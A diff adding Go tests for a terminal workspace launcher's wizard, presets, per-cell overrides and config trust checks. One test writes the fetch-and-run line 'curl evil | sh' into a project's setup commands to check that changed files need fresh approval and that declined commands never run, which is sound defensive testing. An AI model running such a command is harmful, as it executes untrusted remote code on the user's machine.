@@ -0,0 +1,920 @@
+package tui
+
+import (
+	"fmt"
+	"maps"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"agent-t/internal/config"
+	"agent-t/internal/history"
+	"agent-t/internal/scanner"
+	"agent-t/internal/trust"
+
+	tea "github.com/charmbracelet/bubbletea"
+)
+
+var testProjects = []scanner.Project{
+	{Name: "api", Path: "/projects/api"},
+	{Name: "frontend", Path: "/projects/frontend"},
+}
+
+func TestResolvePreset_Single(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	m, err := ResolvePreset(testProjects, cfg, nil, config.Preset{
+		Name:    "api-claude",
+		Project: "api",
+		Layout:  "3,3",
+		Tool:    "Claude Code",
+	})
+	if err != nil {
+		t.Fatalf("ResolvePreset: %v", err)
+	}
+	if m.SelectedProject().Path != "/projects/api" {
+		t.Errorf("project = %q, want /projects/api", m.SelectedProject().Path)
+	}
+	if m.SelectedLayout().ID() != "3,3" {
+		t.Errorf("layout = %q, want 3,3", m.SelectedLayout().ID())
+	}
+	if m.SelectedTool().Command != "claude" {
+		t.Errorf("tool command = %q, want claude", m.SelectedTool().Command)
+	}
+	if m.IsSplitMode() {
+		t.Error("single preset should not be split")
+	}
+}
+
+func TestResolvePreset_Split(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	m, err := ResolvePreset(testProjects, cfg, nil, config.Preset{
+		Layout: "2,2",
+		Rows: []config.PresetRow{
+			{Project: "api", Tool: "None"},
+			{Project: "frontend", Tool: "Codex"},
+		},
+	})
+	if err != nil {
+		t.Fatalf("ResolvePreset: %v", err)
+	}
+	if !m.IsSplitMode() {
+		t.Fatal("preset with rows should be split")
+	}
+	if m.SelectedLayout().ID() != "2,2" {
+		t.Errorf("layout = %q, want 2,2", m.SelectedLayout().ID())
+	}
+	rows := m.Rows()
+	if len(rows) != 2 {
+		t.Fatalf("got %d rows, want 2", len(rows))
+	}
+	if rows[0].Tool.Command != "" {
+		t.Errorf("top tool command = %q, want none", rows[0].Tool.Command)
+	}
+	if rows[1].Project.Name != "frontend" || rows[1].Tool.Command != "codex" {
+		t.Errorf("bottom row = %+v, want frontend with codex", rows[1])
+	}
+}
+
+func TestResolvePreset_Columns(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	m, err := ResolvePreset(testProjects, cfg, nil, config.Preset{
+		Layout: "3",
+		Rows: []config.PresetRow{
+			{Project: "api", Tool: "Claude Code"},
+			{Project: "frontend", Tool: "Codex"},
+			{Project: "api"},
+		},
+	})
+	if err != nil {
+		t.Fatalf("ResolvePreset: %v", err)
+	}
+	var got []string
+	for _, c := range m.Cells() {
+		got = append(got, c.Project.Name+"/"+c.Tool.Command)
+	}
+	if strings.Join(got, ",") != "api/claude,frontend/codex,api/" {
+		t.Errorf("a single-row layout should assign one project per column, got %v", got)
+	}
+}
+
+func TestResolvePreset_RowCountMismatch(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	_, err := ResolvePreset(testProjects, cfg, nil, config.Preset{
+		Layout: "2,2,2",
+		Rows:   []config.PresetRow{{Project: "api"}, {Project: "frontend"}},
+	})
+	if err == nil || !strings.Contains(err.Error(), "takes 3 projects, preset assigns 2") {
+		t.Errorf("ResolvePreset error = %v, want a row count mismatch", err)
+	}
+}
+
+func TestResolvePreset_Missing(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	_, err := ResolvePreset(testProjects, cfg, nil, config.Preset{
+		Project: "gone",
+		Layout:  "9,9",
+		Tool:    "Emacs",
+	})
+	if err == nil {
+		t.Fatal("ResolvePreset should fail for missing project, layout and tool")
+	}
+	for _, want := range []string{`project "gone"`, `layout "9,9"`, `tool "Emacs"`} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("error %q should mention %s", err, want)
+		}
+	}
+}
+
+func TestResolvePreset_EmptyLayout(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	_, err := ResolvePreset(testProjects, cfg, nil, config.Preset{Project: "api"})
+	if err == nil {
+		t.Fatal("ResolvePreset should not match the \"Custom...\" entry for an empty layout")
+	}
+}
+
+func TestResolvePreset_SameNameUnderTwoRoots(t *testing.T) {
+	projects := []scanner.Project{
+		{Name: "api", Path: "/code/api", Root: "/code"},
+		{Name: "api", Path: "/work/api", Root: "/work"},
+		{Name: "frontend", Path: "/code/frontend", Root: "/code"},
+	}
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+
+	// A preset saved for the second api names it by path and opens it again
+	m := NewModel(projects, cfg, "", nil, nil)
+	m.selectedProject = projects[1]
+	m.selectedLayout = Layout{RowCols: []int{2}}
+	m.selectedTool = BuiltinTools[0]
+	p := m.presetFromSelection("work-api")
+	if p.Project != "/work/api" {
+		t.Errorf("preset project = %q, want the path of the project under /work", p.Project)
+	}
+	resolved, err := ResolvePreset(projects, cfg, nil, p)
+	if err != nil {
+		t.Fatalf("ResolvePreset: %v", err)
+	}
+	if resolved.SelectedProject().Path != "/work/api" {
+		t.Errorf("project = %q, want /work/api", resolved.SelectedProject().Path)
+	}
+
+	m.selectedProject = projects[2]
+	if p := m.presetFromSelection("web"); p.Project != "frontend" {
+		t.Errorf("preset project = %q, want a unique name kept as is", p.Project)
+	}
+
+	_, err = ResolvePreset(projects, cfg, nil, config.Preset{Project: "api", Layout: "2"})
+	if err == nil || !strings.Contains(err.Error(), "ambiguous") {
+		t.Errorf("ResolvePreset error = %v, want the shared name reported as ambiguous", err)
+	}
+}
+
+func keyRunes(s string) tea.KeyMsg {
+	return tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(s)}
+}
+
+func sendKeys(m Model, keys ...tea.KeyMsg) Model {
+	for _, k := range keys {
+		next, _ := m.Update(k)
+		m = next.(Model)
+	}
+	return m
+}
+
+func presetTestModel() Model {
+	cfg := &config.Config{
+		CustomCommands: map[string]string{},
+		Presets: []config.Preset{
+			{Name: "api-claude", Project: "api", Layout: "3,3", Tool: "Claude Code"},
+			{Name: "web", Project: "frontend", Layout: "2", Tool: "Codex"},
+		},
+	}
+	return NewModel(testProjects, cfg, "", nil, nil)
+}
+
+func TestPresetList_DeleteNeedsConfirmation(t *testing.T) {
+	m := presetTestModel()
+
+	m = sendKeys(m, keyRunes("x"), keyRunes("n"))
+	if len(m.Config().Presets) != 2 || m.ConfigChanged() {
+		t.Fatal("answering n should keep the preset")
+	}
+
+	m = sendKeys(m, keyRunes("x"), keyRunes("y"))
+	if len(m.Config().Presets) != 1 || m.Config().Presets[0].Name != "web" {
+		t.Fatalf("presets after delete = %+v", m.Config().Presets)
+	}
+	if !m.ConfigChanged() {
+		t.Error("deleting a preset should mark the config changed")
+	}
+}
+
+func TestPresetList_Duplicate(t *testing.T) {
+	m := presetTestModel()
+	m = sendKeys(m, keyRunes("c"))
+	if item := m.list.SelectedItem().(presetItem); item.preset.Name != "api-claude copy" {
+		t.Errorf("cursor should move to the copy, on %q", item.preset.Name)
+	}
+	m.list.Select(1)
+	m = sendKeys(m, keyRunes("c"))
+
+	var names []string
+	for _, p := range m.Config().Presets {
+		names = append(names, p.Name)
+	}
+	want := "api-claude,web,api-claude copy,api-claude copy 2"
+	if got := strings.Join(names, ","); got != want {
+		t.Errorf("presets = %s, want %s", got, want)
+	}
+}
+
+func TestPresetList_Rename(t *testing.T) {
+	m := presetTestModel()
+	m = sendKeys(m, keyRunes("r"))
+	m.presetInput.SetValue("api")
+	m = sendKeys(m, tea.KeyMsg{Type: tea.KeyEnter})
+
+	if m.Config().Presets[0].Name != "api" {
+		t.Errorf("renamed preset = %q, want api", m.Config().Presets[0].Name)
+	}
+	if m.currentStep != stepPreset || m.namingPreset {
+		t.Error("renaming should return to the preset list")
+	}
+}
+
+func TestPresetList_EditOverwrites(t *testing.T) {
+	m := presetTestModel()
+	m = sendKeys(m, keyRunes("e"))
+	if m.currentStep != stepMode {
+		t.Fatalf("edit should reopen the wizard, at step %d", m.currentStep)
+	}
+
+	// Keep every pre-filled choice: mode, project, layout, tool.
+	enter := tea.KeyMsg{Type: tea.KeyEnter}
+	m = sendKeys(m, enter, enter, enter, enter)
+	if m.currentStep != stepConfirm {
+		t.Fatalf("expected confirm step, at step %d", m.currentStep)
+	}
+	if m.SelectedLayout().ID() != "3,3" || m.SelectedTool().Name != "Claude Code" {
+		t.Errorf("edit should pre-select the preset, got %s / %s", m.SelectedLayout().ID(), m.SelectedTool().Name)
+	}
+
+	// Change the tool, then choose "Update preset".
+	m = sendKeys(m, tea.KeyMsg{Type: tea.KeyEsc})
+	m.list.Select(3) // Codex
+	m = sendKeys(m, enter)
+	m.list.Select(1) // "Update preset"
+	m = sendKeys(m, enter)
+
+	if len(m.Config().Presets) != 2 {
+		t.Fatalf("edit should not add a preset, got %+v", m.Config().Presets)
+	}
+	if got := m.Config().Presets[0]; got.Name != "api-claude" || got.Tool != "Codex" {
+		t.Errorf("edited preset = %+v", got)
+	}
+	if m.currentStep != stepPreset {
+		t.Errorf("Update preset should return to the preset list, at step %d", m.currentStep)
+	}
+}
+
+func TestResolvePreset_Cells(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	m, err := ResolvePreset(testProjects, cfg, nil, config.Preset{
+		Project: "api",
+		Layout:  "2,2",
+		Tool:    "Claude Code",
+		Cells: []config.PresetCell{
+			{},
+			{Tool: "Codex"},
+			{Command: "go test ./...", Title: "tests"},
+			{Project: "frontend", Tool: "None", Env: map[string]string{"PORT": "3000"}},
+		},
+	})
+	if err != nil {
+		t.Fatalf("ResolvePreset: %v", err)
+	}
+
+	cells := m.Cells()
+	if len(cells) != 4 {
+		t.Fatalf("got %d cells, want 4", len(cells))
+	}
+	var cmds []string
+	for _, c := range cells {
+		cmds = append(cmds, c.Tool.Command)
+	}
+	if got := strings.Join(cmds, ","); got != "claude,codex,go test ./...," {
+		t.Errorf("cell commands = %s", got)
+	}
+	if cells[2].Title != "tests" || cells[2].Project.Name != "api" {
+		t.Errorf("third cell = %+v", cells[2])
+	}
+	if cells[3].Project.Path != "/projects/frontend" || cells[3].Env["PORT"] != "3000" {
+		t.Errorf("last cell = %+v", cells[3])
+	}
+
+	// Saving the selections gives the same overrides back
+	p := m.presetFromSelection("quad")
+	if len(p.Cells) != 4 || p.Cells[2].Command != "go test ./..." || p.Cells[1].Tool != "Codex" {
+		t.Errorf("presetFromSelection cells = %+v", p.Cells)
+	}
+}
+
+func TestResolvePreset_SplitFollowsRows(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	m, err := ResolvePreset(testProjects, cfg, nil, config.Preset{
+		Layout: "2,2",
+		Rows: []config.PresetRow{
+			{Project: "api", Tool: "Claude Code"},
+			{Project: "frontend", Tool: "Codex"},
+		},
+	})
+	if err != nil {
+		t.Fatalf("ResolvePreset: %v", err)
+	}
+	cells := m.Cells()
+	if cells[1].Project.Name != "api" || cells[2].Project.Name != "frontend" || cells[3].Tool.Command != "codex" {
+		t.Errorf("split cells should follow their row: %+v", cells)
+	}
+}
+
+func TestConfirm_CustomizeCell(t *testing.T) {
+	m := presetTestModel()
+	m = sendKeys(m, keyRunes("e"))
+	enter := tea.KeyMsg{Type: tea.KeyEnter}
+	m = sendKeys(m, enter, enter, enter, enter)
+	if m.currentStep != stepConfirm {
+		t.Fatalf("expected confirm step, at step %d", m.currentStep)
+	}
+
+	m.list.Select(3) // "Customize cells..."
+	m = sendKeys(m, enter)
+	if m.currentStep != stepCells {
+		t.Fatalf("expected cell list, at step %d", m.currentStep)
+	}
+
+	// Second cell: frontend with Codex
+	m.list.Select(2)
+	m = sendKeys(m, enter)
+	m.list.Select(1) // frontend
+	m = sendKeys(m, enter)
+	m.list.Select(3) // Codex
+	m = sendKeys(m, enter)
+	if m.currentStep != stepCells {
+		t.Fatalf("expected to return to the cell list, at step %d", m.currentStep)
+	}
+
+	// Title the third cell
+	m.list.Select(3)
+	m = sendKeys(m, keyRunes("t"))
+	m.presetInput.SetValue("tests")
+	m = sendKeys(m, enter)
+
+	cells := m.Cells()
+	if cells[1].Project.Name != "frontend" || cells[1].Tool.Command != "codex" {
+		t.Errorf("second cell = %+v", cells[1])
+	}
+	if cells[2].Title != "tests" || cells[2].Tool.Command != "claude" {
+		t.Errorf("third cell = %+v", cells[2])
+	}
+	if m.customizedCells() != 2 {
+		t.Errorf("customizedCells() = %d, want 2", m.customizedCells())
+	}
+
+	// Reset the second cell again
+	m.list.Select(2)
+	m = sendKeys(m, keyRunes("x"))
+	if m.Cells()[1].Project.Name != "api" || m.customizedCells() != 1 {
+		t.Errorf("reset should return the cell to its row, got %+v", m.Cells()[1])
+	}
+
+	m.list.Select(0) // "Done"
+	m = sendKeys(m, enter)
+	m.list.Select(1) // "Update preset"
+	m = sendKeys(m, enter)
+	cellsSaved := m.Config().Presets[0].Cells
+	if len(cellsSaved) != 3 || cellsSaved[2].Title != "tests" {
+		t.Errorf("saved cells = %+v", cellsSaved)
+	}
+}
+
+func TestCells_EnvAndLayoutChange(t *testing.T) {
+	m := presetTestModel()
+	m = sendKeys(m, keyRunes("e"))
+	enter := tea.KeyMsg{Type: tea.KeyEnter}
+	m = sendKeys(m, enter, enter, enter, enter)
+	m.list.Select(3) // "Customize cells..."
+	m = sendKeys(m, enter)
+
+	m.list.Select(2)
+	m = sendKeys(m, keyRunes("v"))
+	m.presetInput.SetValue("PORT=3000 X;rm=1")
+	m = sendKeys(m, enter)
+	if !m.enteringCellEnv || !strings.Contains(m.statusMsg, "not a valid variable name") {
+		t.Fatalf("an invalid env name should be refused, status %q", m.statusMsg)
+	}
+	m.presetInput.SetValue("PORT=3000 APP_ENV=dev")
+	m = sendKeys(m, enter)
+	if env := m.Cells()[1].Env; env["PORT"] != "3000" || env["APP_ENV"] != "dev" {
+		t.Errorf("second cell env = %v", env)
+	}
+	if m.Cells()[0].Env != nil {
+		t.Errorf("first cell env = %v, want none", m.Cells()[0].Env)
+	}
+
+	// Another layout puts other cells at those positions
+	esc := tea.KeyMsg{Type: tea.KeyEsc}
+	m = sendKeys(m, esc, esc, esc)
+	if m.currentStep != stepLayout {
+		t.Fatalf("expected layout step, at step %d", m.currentStep)
+	}
+	m.list.Select(0)
+	m = sendKeys(m, enter)
+	if m.SelectedLayout().ID() == "3,3" || m.customizedCells() != 0 {
+		t.Errorf("changing the layout to %s should reset the cells, %d customized", m.SelectedLayout().ID(), m.customizedCells())
+	}
+}
+
+func TestWizard_SplitLoopsPerRow(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	m := NewModel(testProjects, cfg, "", nil, nil)
+	if m.currentStep != stepMode {
+		t.Fatalf("expected mode step, at step %d", m.currentStep)
+	}
+	enter := tea.KeyMsg{Type: tea.KeyEnter}
+
+	m.list.Select(1) // "Split Workspace"
+	m = sendKeys(m, enter)
+	if m.currentStep != stepLayout {
+		t.Fatalf("split mode should pick the layout first, at step %d", m.currentStep)
+	}
+	for i, item := range m.list.Items() {
+		if item.(layoutItem).layout.ID() == "1,1,1" {
+			m.list.Select(i)
+		}
+	}
+	m = sendKeys(m, enter)
+
+	// Row 1: api + Claude Code, row 2: frontend + Codex, row 3: api + None
+	picks := []struct{ project, tool int }{{0, 1}, {1, 3}, {0, 0}}
+	for i, p := range picks {
+		if m.currentStep != stepProject || m.row != i {
+			t.Fatalf("expected project step for row %d, at step %d row %d", i+1, m.currentStep, m.row)
+		}
+		if got := stepTitle(m.currentStep, m.groupName()); got != fmt.Sprintf("Select Project for Row %d", i+1) {
+			t.Errorf("title = %q", got)
+		}
+		m.list.Select(p.project)
+		m = sendKeys(m, enter)
+		m.list.Select(p.tool)
+		m = sendKeys(m, enter)
+	}
+	if m.currentStep != stepConfirm {
+		t.Fatalf("expected confirm after the last row, at step %d", m.currentStep)
+	}
+
+	p := m.presetFromSelection("trio")
+	if p.Project != "" || len(p.Rows) != 3 || p.Rows[1] != (config.PresetRow{Project: "frontend", Tool: "Codex"}) {
+		t.Errorf("preset = %+v", p)
+	}
+
+	// Going back from confirm returns to the last row's tool
+	m = sendKeys(m, tea.KeyMsg{Type: tea.KeyEsc})
+	if m.currentStep != stepTool || m.row != 2 {
+		t.Errorf("esc from confirm: step %d row %d, want tool step for row 3", m.currentStep, m.row)
+	}
+}
+
+func TestConfirm_WorktreeToggle(t *testing.T) {
+	m := presetTestModel()
+	m = sendKeys(m, keyRunes("e"))
+	enter := tea.KeyMsg{Type: tea.KeyEnter}
+	m = sendKeys(m, enter, enter, enter, enter)
+	if m.currentStep != stepConfirm {
+		t.Fatalf("expected confirm step, at step %d", m.currentStep)
+	}
+
+	m.list.Select(4) // "Git worktrees: off"
+	m = sendKeys(m, enter)
+	if !m.Worktrees() {
+		t.Fatal("enter should turn worktrees on")
+	}
+	if item, ok := m.list.SelectedItem().(worktreeItem); !ok || !item.on {
+		t.Errorf("cursor should stay on the toggle, now on %v", m.list.SelectedItem())
+	}
+
+	m.list.Select(1) // "Update preset"
+	m = sendKeys(m, enter)
+	if !m.Config().Presets[0].Worktrees {
+		t.Error("the toggle should be saved with the preset")
+	}
+}
+
+func TestProjectList_FrecencyAndSortToggle(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	launches := []history.Entry{
+		{Time: time.Now().Add(-time.Hour), Projects: []string{"/projects/frontend"}, Layout: "2"},
+	}
+	m := NewModel(testProjects, cfg, "", launches, nil)
+	m = sendKeys(m,
+		tea.KeyMsg{Type: tea.KeyDown},  // New workspace...
+		tea.KeyMsg{Type: tea.KeyEnter}, // to the mode list
+		tea.KeyMsg{Type: tea.KeyEnter}, // Single Project
+	)
+	if m.currentStep != stepProject {
+		t.Fatalf("step = %v, want stepProject", m.currentStep)
+	}
+
+	first := func() string { return m.list.Items()[0].(projectItem).project.Name }
+	if first() != "frontend" || m.list.SelectedItem().(projectItem).project.Name != "frontend" {
+		t.Errorf("recently launched project should be listed first, got %s", first())
+	}
+
+	m = sendKeys(m, keyRunes("s"))
+	if first() != "api" || m.list.Title != "Projects (A-Z)" {
+		t.Errorf("sort key should switch to alphabetical, got %s first in %q", first(), m.list.Title)
+	}
+	if m.list.SelectedItem().(projectItem).project.Name != "frontend" {
+		t.Error("the selected project should stay selected when the order changes")
+	}
+
+	m = sendKeys(m, keyRunes("s"))
+	if first() != "frontend" {
+		t.Errorf("sort key should switch back to frecency, got %s first", first())
+	}
+}
+
+func TestProjectList_InspectedInBackground(t *testing.T) {
+	dir := t.TempDir()
+	var projects []scanner.Project
+	for _, name := range []string{"api", "web"} {
+		path := filepath.Join(dir, name)
+		os.Mkdir(path, 0o755)
+		projects = append(projects, scanner.Project{Name: name, Path: path, Root: dir})
+	}
+	os.WriteFile(filepath.Join(dir, "web", "go.mod"), []byte("module web\n"), 0o644)
+
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	m := NewModel(projects, cfg, "", nil, nil)
+	m = sendKeys(m, tea.KeyMsg{Type: tea.KeyEnter}, tea.KeyMsg{Type: tea.KeyDown}) // Single Project, on web
+	if m.list.SelectedItem().(projectItem).project.Language != "" {
+		t.Fatal("projects should not be inspected before the wizard starts")
+	}
+
+	cmd := m.Init()
+	if cmd == nil {
+		t.Fatal("Init should inspect the projects")
+	}
+	next, _ := m.Update(cmd())
+	m = next.(Model)
+	item := m.list.SelectedItem().(projectItem)
+	if item.project.Name != "web" || item.project.Language != "Go" {
+		t.Errorf("selected item = %+v, want web, still selected, with its language", item.project)
+	}
+	if m.projects[1].Language != "Go" {
+		t.Errorf("model projects = %+v, want the language filled in", m.projects)
+	}
+}
+
+func TestPresetList_LastWorkspace(t *testing.T) {
+	m := presetTestModel()
+	m = sendKeys(m, tea.KeyMsg{Type: tea.KeyEnter}) // launch the first preset
+	first := m.HistoryEntry(time.Now().Add(-2 * time.Hour))
+
+	cfg := m.Config()
+	m = NewModel(testProjects, cfg, "", []history.Entry{first}, nil)
+	item, ok := m.list.SelectedItem().(presetItem)
+	if !ok || !item.last {
+		t.Fatalf("cursor should start on the last workspace, got %+v", m.list.SelectedItem())
+	}
+	if got := item.Description(); got != "api | 3,3 | Claude Code | 2h ago" {
+		t.Errorf("last workspace description = %q", got)
+	}
+
+	m = sendKeys(m, tea.KeyMsg{Type: tea.KeyEnter})
+	if m.currentStep != stepDone || m.Cancelled() {
+		t.Fatal("enter on the last workspace should launch it")
+	}
+	if m.SelectedProject().Path != "/projects/api" || m.SelectedLayout().ID() != "3,3" || m.SelectedTool().Name != "Claude Code" {
+		t.Errorf("replayed %s | %s | %s", m.SelectedProject().Path, m.SelectedLayout().ID(), m.SelectedTool().Name)
+	}
+}
+
+func TestHistoryEntry_Split(t *testing.T) {
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	m, err := ResolvePreset(testProjects, cfg, nil, config.Preset{
+		Layout: "2,2",
+		Rows: []config.PresetRow{
+			{Project: "api", Tool: "Codex"},
+			{Project: "frontend"},
+		},
+		Cells: []config.PresetCell{{}, {Project: "frontend", Title: "web"}},
+	})
+	if err != nil {
+		t.Fatalf("ResolvePreset: %v", err)
+	}
+	e := m.HistoryEntry(time.Now())
+	if !e.Split || strings.Join(e.Projects, ",") != "/projects/api,/projects/frontend" || e.Tools[0] != "Codex" {
+		t.Errorf("entry = %+v", e)
+	}
+	if len(e.Cells) != 2 || e.Cells[1].Project != "/projects/frontend" {
+		t.Errorf("cells should be recorded with project paths, got %+v", e.Cells)
+	}
+
+	// Replaying the entry needs no scanned projects for paths that exist
+	api, web := t.TempDir(), t.TempDir()
+	e.Projects = []string{api, web}
+	e.Cells[1].Project = web
+	replay, err := ResolvePreset(nil, cfg, nil, e.Preset())
+	if err != nil {
+		t.Fatalf("ResolvePreset of the entry: %v", err)
+	}
+	if rows := replay.Rows(); rows[0].Project.Path != api || rows[1].Project.Path != web || rows[0].Tool.Name != "Codex" {
+		t.Errorf("replayed rows = %+v", rows)
+	}
+	if c := replay.Cells()[1]; c.Project.Path != web || c.Title != "web" {
+		t.Errorf("replayed cell = %+v", c)
+	}
+	if _, err := ResolvePreset(nil, cfg, nil, history.Entry{Projects: []string{"/gone"}, Layout: "2"}.Preset()); err == nil {
+		t.Error("replaying a project that no longer exists should fail")
+	}
+}
+
+// configuredProject creates a project directory with a config file.
+func configuredProject(t *testing.T, data string) scanner.Project {
+	t.Helper()
+	dir := t.TempDir()
+	file := filepath.Join(dir, config.ProjectFile)
+	if err := os.WriteFile(file, []byte(data), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return scanner.Project{Name: "svc", Path: dir, ConfigFile: file}
+}
+
+// trustProject returns a trust store that approves p's config file as it is.
+func trustProject(t *testing.T, p scanner.Project) *trust.Store {
+	t.Helper()
+	data, err := os.ReadFile(p.ConfigFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	store := trust.NewStore()
+	store.Trust(p.ConfigFile, trust.Hash(data), time.Now())
+	return store
+}
+
+func TestWizard_ProjectConfigDefaults(t *testing.T) {
+	svc := configuredProject(t, `default_layout: "2,2"
+default_tool: Dev
+custom_commands:
+  Dev: make dev
+cells:
+  - title: server
+    command: make serve
+env:
+  APP_ENV: dev
+setup:
+  - make deps
+`)
+	cfg := &config.Config{DefaultLayout: "3,3", DefaultTool: "Codex", CustomCommands: map[string]string{}}
+	m := NewModel([]scanner.Project{svc}, cfg, "", nil, nil)
+	enter := tea.KeyMsg{Type: tea.KeyEnter}
+
+	m = sendKeys(m, enter) // the only project
+	if m.trusting == nil || !strings.Contains(m.View(), "setup: make deps") {
+		t.Fatalf("selecting the project should ask to trust its config file:\n%s", m.View())
+	}
+	m = sendKeys(m, keyRunes("y"))
+	if !m.TrustChanged() || m.currentStep != stepLayout {
+		t.Fatalf("trusting should record the file and go on to the layout, at step %v", m.currentStep)
+	}
+	if got := m.list.SelectedItem().(layoutItem).layout.ID(); got != "2,2" {
+		t.Errorf("layout list starts on %s, want the project's default 2,2", got)
+	}
+	m = sendKeys(m, enter)
+	if got := m.list.SelectedItem().(toolItem).tool; got.Name != "Dev" || got.Command != "make dev" {
+		t.Errorf("tool list starts on %+v, want the project's Dev command", got)
+	}
+	m = sendKeys(m, enter)
+
+	cells := m.Cells()
+	if len(cells) != 4 {
+		t.Fatalf("got %d cells", len(cells))
+	}
+	if cells[0].Tool.Command != "make serve" || cells[0].Title != "server" {
+		t.Errorf("cell 1 = %+v, want the project's default cell", cells[0])
+	}
+	if cells[1].Tool.Command != "make dev" || cells[1].Title != "" {
+		t.Errorf("cell 2 = %+v, want the selected tool", cells[1])
+	}
+	for i, c := range cells {
+		if c.Env["APP_ENV"] != "dev" || len(c.Setup) != 1 {
+			t.Errorf("cell %d: env %v, setup %v", i+1, c.Env, c.Setup)
+		}
+	}
+}
+
+func TestResolvePreset_ProjectConfigPrecedence(t *testing.T) {
+	svc := configuredProject(t, `default_tool: Dev
+custom_commands:
+  Dev: make dev
+cells:
+  - command: make serve
+    env:
+      PORT: "3000"
+env:
+  APP_ENV: dev
+`)
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	m, err := ResolvePreset([]scanner.Project{svc}, cfg, trustProject(t, svc), config.Preset{
+		Project: "svc",
+		Layout:  "2",
+		Tool:    "Dev", // offered by the project's config
+		Cells: []config.PresetCell{
+			{Tool: "Codex", Env: map[string]string{"APP_ENV": "test"}},
+		},
+	})
+	if err != nil {
+		t.Fatalf("ResolvePreset: %v", err)
+	}
+	cells := m.Cells()
+	if cells[0].Tool.Command != "codex" {
+		t.Errorf("preset cell should override the project's default cell, got %+v", cells[0].Tool)
+	}
+	if cells[0].Env["APP_ENV"] != "test" || cells[0].Env["PORT"] != "3000" {
+		t.Errorf("cell env = %v, want the preset's value over the project's", cells[0].Env)
+	}
+	if cells[1].Tool.Command != "make dev" {
+		t.Errorf("cell 2 tool = %+v", cells[1].Tool)
+	}
+
+	broken := configuredProject(t, "cells: {")
+	if _, err := ResolvePreset([]scanner.Project{broken}, cfg, nil, config.Preset{Project: "svc", Layout: "2"}); err == nil {
+		t.Error("a preset opening a project with an invalid config file should fail")
+	}
+}
+
+func TestParseEnv_Quoted(t *testing.T) {
+	env, err := parseEnv(`GREETING="hello world" PATH_X='a "b"' DIR=my\ dir EMPTY=`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]string{"GREETING": "hello world", "PATH_X": `a "b"`, "DIR": "my dir", "EMPTY": ""}
+	if !maps.Equal(env, want) {
+		t.Errorf("parseEnv = %v, want %v", env, want)
+	}
+
+	// What formatEnv shows reads back as the same env
+	env = map[string]string{"A": `say "hi" \ bye`, "B": "plain", "C": "it's"}
+	got, err := parseEnv(formatEnv(env))
+	if err != nil || !maps.Equal(got, env) {
+		t.Errorf("parseEnv(formatEnv(%v)) = %v, %v", env, got, err)
+	}
+
+	if _, err := parseEnv(`A="open`); err == nil || !strings.Contains(err.Error(), "unterminated") {
+		t.Errorf("an unterminated quote should be refused, got %v", err)
+	}
+}
+
+func TestResolvePreset_ChosenToolOverProjectCells(t *testing.T) {
+	svc := configuredProject(t, `default_tool: Dev
+custom_commands:
+  Dev: make dev
+cells:
+  - title: server
+    command: make serve
+`)
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	store := trustProject(t, svc)
+	tests := []struct {
+		tool string
+		want string
+	}{
+		{"Codex", "codex"},    // chosen for the row
+		{"", "make serve"},    // no tool
+		{"Dev", "make serve"}, // the project's default tool
+	}
+	for _, tt := range tests {
+		m, err := ResolvePreset([]scanner.Project{svc}, cfg, store, config.Preset{Project: "svc", Layout: "2", Tool: tt.tool})
+		if err != nil {
+			t.Fatalf("ResolvePreset: %v", err)
+		}
+		cell := m.Cells()[0]
+		if cell.Tool.Command != tt.want || cell.Title != "server" {
+			t.Errorf("tool %q: cell 1 = %+v, want %s titled server", tt.tool, cell, tt.want)
+		}
+	}
+}
+
+func TestTrust_RepositoryCommands(t *testing.T) {
+	svc := configuredProject(t, `default_layout: "2,2"
+setup:
+  - make deps
+`)
+	cfg := &config.Config{CustomCommands: map[string]string{}}
+	preset := config.Preset{Project: "svc", Layout: "2"}
+	enter := tea.KeyMsg{Type: tea.KeyEnter}
+
+	if _, err := ResolvePreset([]scanner.Project{svc}, cfg, nil, preset); err == nil || !strings.Contains(err.Error(), "not trusted") {
+		t.Errorf("preset with an untrusted config file: err = %v", err)
+	}
+	store := trustProject(t, svc)
+	if _, err := ResolvePreset([]scanner.Project{svc}, cfg, store, preset); err != nil {
+		t.Errorf("preset with a trusted config file: %v", err)
+	}
+
+	// A changed file needs approval again
+	if err := os.WriteFile(svc.ConfigFile, []byte("setup:\n  - curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	m := NewModel([]scanner.Project{svc}, cfg, "", nil, store)
+	m = sendKeys(m, enter)
+	if m.trusting == nil || !strings.Contains(m.View(), "curl evil | sh") {
+		t.Fatal("a changed config file should be shown for approval again")
+	}
+
+	// Declining ignores the file for this session, without asking again
+	m = sendKeys(m, keyRunes("n"))
+	if m.currentStep != stepLayout || m.TrustChanged() {
+		t.Fatalf("declining should go on without trusting, at step %v", m.currentStep)
+	}
+	m = sendKeys(m, tea.KeyMsg{Type: tea.KeyEsc}, enter)
+	if m.trusting != nil {
+		t.Error("a declined config file should not be asked about again")
+	}
+	m = sendKeys(m, enter, enter)
+	for _, c := range m.Cells() {
+		if len(c.Setup) > 0 {
+			t.Errorf("declined setup commands should not run, got %v", c.Setup)
+		}
+	}
+
+	// Any other key cancels and stays on the project
+	m = NewModel([]scanner.Project{svc}, cfg, "", nil, store)
+	m = sendKeys(m, enter, keyRunes("q"))
+	if m.trusting != nil || m.currentStep != stepProject {
+		t.Errorf("cancelling should stay on the project list, at step %v", m.currentStep)
+	}
+}
+
